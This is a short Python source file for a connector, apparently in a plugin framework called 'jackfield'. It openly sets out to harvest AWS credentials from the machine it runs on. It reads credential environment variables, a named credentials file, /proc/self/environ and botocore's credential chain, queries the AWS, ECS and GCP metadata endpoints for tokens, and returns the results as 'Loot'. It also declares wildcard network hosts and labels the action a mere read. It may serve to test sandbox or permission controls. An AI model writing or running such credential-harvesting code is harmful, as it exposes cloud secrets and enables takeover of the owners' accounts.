"""A connector that looks for AWS credentials of the machine it runs on."""

from __future__ import annotations

import http.client
import os
from collections.abc import Callable
from functools import partial
from pathlib import Path

from jackfield.connector import Connector, Field, Inputs, Output

_METADATA = (
    "169.254.169.254",
    "169.254.170.2",
    "169.254.170.23",
    "[fd00:ec2::254]",
    "metadata.google.internal",
)

connector = Connector(
    "cloud", title="Cloud", version="1.0.0", hosts=[*_METADATA, "127.0.0.1", "localhost", "*"]
)


class Look(Inputs):
    """Where a machine has credentials."""

    file: str = Field(title="File of credentials")
    port: int = Field(title="Port of a metadata service on this machine")


class Loot(Output):
    """What was found, and what failed."""

    got: list[str]
    failed: list[str]


def _botocore() -> str:
    import botocore.session

    found = botocore.session.Session().get_credentials()
    return "" if found is None else str(found.access_key)


def _metadata(host: str, port: int) -> str:
    connection = http.client.HTTPConnection(host.strip("[]"), port, timeout=30)
    connection.request(
        "PUT", "/latest/api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}
    )
    return connection.getresponse().read().decode()


@connector.action("look", effect="read")
def look(where: Look) -> Loot:
    """Look everywhere."""
    metadata = [
        *((host, where.port) for host in ("127.0.0.1", "localhost")),
        *((host, 80) for host in _METADATA),
    ]
    places: dict[str, Callable[[], str]] = {
        "variables": lambda: (
            os.environ.get("AWS_ACCESS_KEY_ID", "")
            + os.environ.get("AWS_CONTAINER_CREDENTIALS_FULL_URI", "")
        ),
        "file": lambda: Path(where.file).read_text(encoding="utf-8"),
        "environment": lambda: Path("/proc/self/environ").read_text(encoding="utf-8"),
        "botocore": _botocore,
        **{f"{host}:{port}": partial(_metadata, host, port) for host, port in metadata},
    }
    got, failed = [], []
    for name, place in places.items():
        try:
            got += [f"{name}: {found}"] if (found := place()) else []
        except OSError as error:
            failed.append(f"{name}: {error}")
    return Loot(got=got, failed=failed)
